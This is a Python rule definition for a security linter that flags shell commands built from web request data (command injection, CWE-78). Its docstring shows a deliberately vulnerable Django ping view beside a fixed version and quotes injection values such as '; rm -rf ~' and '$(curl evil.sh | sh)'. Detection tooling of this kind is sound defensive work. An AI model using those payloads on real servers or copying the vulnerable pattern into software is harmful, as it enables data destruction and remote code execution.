from __future__ import annotations

from typing import Iterator

from secprofile.flow import flow_hits
from secprofile.model.project import Project
from secprofile.rules.base import Confidence, Hit, Severity, rule


@rule(
    code="SP601",
    slug="shell-command-from-request-data",
    title="Shell command built from request data",
    severity=Severity.CRITICAL,
    confidence=Confidence.HIGH,
    cwe=78,
    control="other-injection",
    kind="project",
    hint="Pass a list of arguments without a shell: `subprocess.run([\"convert\", path, out], check=True)`; "
    "if a shell is unavoidable, quote each value with `shlex.quote`.",
)
def shell_command_from_request_data(project: Project) -> Iterator[Hit]:
    """
    ## What it does
    Follows request data (FastAPI parameters, uploaded file names, `Request` reads, Django/DRF
    request data, cookies, headers) through string building and helper functions, across
    modules, into a command a shell parses: `subprocess.run/call/check_call/check_output/Popen`
    with `shell=True` (or a `["sh", "-c", ...]` list), `os.system`, `os.popen`,
    `subprocess.getoutput`, `asyncio.create_subprocess_shell`. One finding per command.

    `shlex.quote`, numeric casts and allow-lists sanitise. A list of arguments without a
    shell is not reported: no shell parses it.

    ## Why is this bad?
    `; rm -rf ~`, `$(curl evil.sh | sh)` or backticks in a file name or parameter run as
    commands with the server's privileges.

    ## Example
    ```python
    import subprocess

    from django.http import JsonResponse


    def ping(request):
        host = request.GET.get("host", "localhost")
        result = subprocess.run(f"ping -c 1 {host}", shell=True, capture_output=True, text=True)
        return JsonResponse({"output": result.stdout})
    ```

    ## Use instead
    ```python
    import subprocess

    from django.http import JsonResponse


    def ping(request):
        host = request.GET.get("host", "localhost")
        result = subprocess.run(["ping", "-c", "1", "--", host], capture_output=True, text=True)
        return JsonResponse({"output": result.stdout})
    ```

    ## Known problems
    A string command without `shell=True` (`subprocess.run(cmd)`) is not reported: the
    whole string is taken as the program's path. Argument injection into a list command
    (`["git", "clone", url]` with `url="--upload-pack=..."`) is out of scope.

    ## References
    - https://cwe.mitre.org/data/definitions/78.html
    - https://docs.python.org/3/library/subprocess.html#security-considerations
    """
    yield from flow_hits(project, ("command",))
